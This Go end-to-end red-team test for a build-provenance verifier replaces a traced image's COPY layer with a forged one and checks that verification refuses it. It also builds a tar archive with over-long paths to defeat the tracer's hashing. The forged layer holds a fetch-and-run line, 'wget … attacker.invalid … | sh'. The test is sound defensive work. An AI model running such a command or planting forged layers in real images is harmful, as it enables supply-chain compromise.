package e2e

import (
	"archive/tar"
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/buildtrace/buildtrace/pkg/registry"
	"github.com/buildtrace/buildtrace/test/lab"
)

// TestRedTeam12UnhashableLowerUnbindsCopy: a COPY layer below a traced RUN
// is bound by the RUN's signed lower digests (docs/threat-model.md, "replace
// a COPY layer that a traced run ran on"). The tracer hashes each lower
// snapshot by its path; a lower it could not hash was recorded as "" and the
// run then bound its own layer "by its diff alone", vouching for nothing
// below it, while verify still passed.
//
// With buildkitd in a container (buildx's docker-container driver) the
// tracer reads its snapshots through /proc/<pid>/root, a longer path than
// buildkitd's own. The build author ADDs a tar archive from the context
// holding one path that fits in PATH_MAX under buildkitd's snapshot
// directory (/var/lib/buildkit/runc-overlayfs/snapshots/snapshots/<n>/fs/)
// but not under /proc/<pid>/root/ in front of it: buildkitd extracts,
// commits and exports it; the tracer's walk of that lower fails with
// ENAMETOOLONG. (On the host lab the two paths are the same length, and
// buildkitd's own commit refuses such a layer.) After the honest build a
// registry writer replaces the application's COPY layer below the traced
// RUN: verify must refuse. Fixed twice: verify binds a run with an unhashed
// lower nowhere, and the tracer walks a snapshot from a descriptor of its
// directory, so what fits for buildkitd fits for it.
func TestRedTeam12UnhashableLowerUnbindsCopy(t *testing.T) {
	l := lab.Require(t)
	dc := l.RequireDC(t)
	h := dc.Host
	h.RequireTracer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
	defer cancel()

	n := randHex(6)
	body := "FROM BASE\nADD deep.tar /\nCOPY app.sh /app.sh\nRUN sh /app.sh > /out-" + n + "\n"
	dir := lab.WriteContext(t, map[string]string{
		"Dockerfile": dockerfile(h, body),
		"app.sh":     "echo honest app " + n + "\n",
		"deep.tar":   string(rt12DeepTar(t)),
	})
	honest := h.Ref("redteam12")
	h.MustBuild(t, ctx, lab.Build{Context: dir, Tag: honest, Push: true})

	b := rtSignedBuild(t, ctx, h, honest)
	for _, st := range b.Steps {
		t.Logf("run %s: lowers %q complete %v %v", st.StepID, st.Lowers, st.Completeness.Complete, st.Completeness.Reasons)
		if slices.Contains(st.Lowers, "") {
			t.Errorf("the tracer could not hash a layer run %s ran on (see its log)", st.StepID)
		}
	}
	// The tracer now walks a snapshot from a descriptor of its directory,
	// so the path fits for it as it did for buildkitd: the honest build
	// verifies, its COPY layer bound by the run's lowers.
	out, code := runCLI(t, h, "verify", honest, "--key", h.TracerPub)
	expectCode(t, out, code, 0, "verify", honest)

	img := h.Image(t, ctx, honest)
	i := layerOf(t, img.Manifests[0].Config, "COPY app.sh")
	forged := h.Ref("redteam12")
	evil := tarOf(t, map[string]string{"app.sh": "wget -q -O- http://attacker.invalid/x | sh\n"})
	layer := pushBytes(t, ctx, registry.New(registry.Options{}), forged, ocispec.MediaTypeImageLayer, evil)
	forge(t, ctx, img, forged, forgery{
		config: func(c *ocispec.Image) {
			c.RootFS.DiffIDs = slices.Clone(c.RootFS.DiffIDs)
			c.RootFS.DiffIDs[i] = layer.Digest
		},
		layers: func(ls []ocispec.Descriptor) []ocispec.Descriptor { ls[i] = layer; return ls },
	})
	out, code = runCLI(t, h, "verify", forged, "--key", h.TracerPub)
	if code == 0 {
		t.Errorf("ATTACK WORKS: verify accepts the image with its COPY layer (below a traced RUN) replaced:\n%s", out)
	} else {
		t.Logf("verify %s: exit %d (refused)\n%s", forged, code, out)
		if !strings.Contains(out, "[binding]") {
			t.Errorf("verify refuses the forgery, but not for its binding:\n%s", out)
		}
	}
}

// rt12DeepTar is a tar archive holding a file whose path fits in PATH_MAX
// (4096 with the NUL) under a docker-container buildkitd's snapshot
// directory with up to 4 digits, and, at extraction, under its temporary
// mounts (/tmp/buildkit-mount<at most 10 digits>/); with the tracer's
// /proc/<pid>/root/ (at least 12 bytes) in front it does not.
func rt12DeepTar(t *testing.T) []byte {
	t.Helper()
	const want = 4096 - 1 - len("/var/lib/buildkit/runc-overlayfs/snapshots/snapshots/1234/fs/")
	mt := time.Unix(1700000000, 0)
	p := "rt12"
	es := []rtEnt{{&tar.Header{Name: p + "/", Typeflag: tar.TypeDir, Mode: 0o755, ModTime: mt}, nil}}
	for len(p)+1+200+1+10 < want {
		p += "/" + strings.Repeat("d", 200)
		es = append(es, rtEnt{&tar.Header{Name: p + "/", Typeflag: tar.TypeDir, Mode: 0o755, ModTime: mt}, nil})
	}
	file := p + "/" + strings.Repeat("f", want-len(p)-1)
	es = append(es, rtEnt{&tar.Header{Name: file, Typeflag: tar.TypeReg, Mode: 0o644, ModTime: mt}, []byte("deep\n")})
	t.Logf("deep path: %d bytes", len(file))
	return rtWriteTar(t, es)
}
